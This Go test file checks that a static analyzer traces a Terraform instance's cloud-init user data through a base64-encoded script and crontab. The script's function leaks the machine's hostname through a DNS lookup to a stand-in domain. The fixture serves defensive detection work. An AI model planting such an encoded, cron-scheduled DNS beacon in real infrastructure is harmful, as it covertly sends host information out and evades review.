package rules_test

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"
	"testing/fstest"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/hiyari/hiyari/analyzers"
	"github.com/hiyari/hiyari/rules/engine"
)

// fiveLayers is an instance whose user data is a cloud-config, which writes a
// script and a crontab in base64; the script's function asks a resolver.
const fiveLayers = `resource "aws_instance" "web" {
  user_data = <<-EOT
    #cloud-config
    write_files:
      - path: /opt/probe.sh
        permissions: '0755'
        encoding: b64
        content: %s
      - path: /etc/cron.d/probe
        encoding: b64
        content: %s
  EOT
}
`

const probe = `#!/bin/sh
# größe
probe() {
  dig +short @8.8.8.8 "$(hostname).example.com"
}
probe
`

func tellFiveLayers(line string) (tree fstest.MapFS, want string) {
	script := base64.StdEncoding.EncodeToString([]byte(probe))
	at := strings.Index(probe, "@8.8.8.8")
	want = script[at/3*4 : (at+len("@8.8.8.8")+2)/3*4]
	main := fmt.Sprintf(fiveLayers, script, base64.StdEncoding.EncodeToString([]byte(line)))
	return fstest.MapFS{"main.tf": {Data: []byte(main)}}, want
}

func TestFiveLayersKeepTheBytesAndEachStep(t *testing.T) {
	tree, want := tellFiveLayers("@weekly root /opt/probe.sh\n")
	findings := engine.Run(analyzers.Load(tree, analyzers.Options{}), engine.Options{}).Findings
	if len(findings) != 1 {
		t.Fatalf("%d findings, want one", len(findings))
	}
	f := findings[0]
	if got := f.At.File.Content(f.At.Start, f.At.End); got != want {
		t.Errorf("at %q, want %q", got, want)
	}
	var steps []string
	for _, hop := range f.Hops {
		steps = append(steps, hop.Note)
	}
	if diff := gocmp.Diff([]string{
		"user_data of aws_instance.web holds this for cloud-init",
		"writes /etc/cron.d/probe",
		"runs at @weekly",
		"runs /opt/probe.sh",
		"calls function probe",
	}, steps); diff != "" {
		t.Errorf("steps (-want +got):\n%s", diff)
	}
}

func TestFiveLayersSwitchedOffAreSilent(t *testing.T) {
	for _, line := range []string{"# @weekly root /opt/probe.sh\n", "@weekly root /bin/true\n"} {
		tree, _ := tellFiveLayers(line)
		if findings := engine.Run(analyzers.Load(tree, analyzers.Options{}), engine.Options{}).Findings; len(findings) > 0 {
			t.Errorf("%q: %d findings", line, len(findings))
		}
	}
}
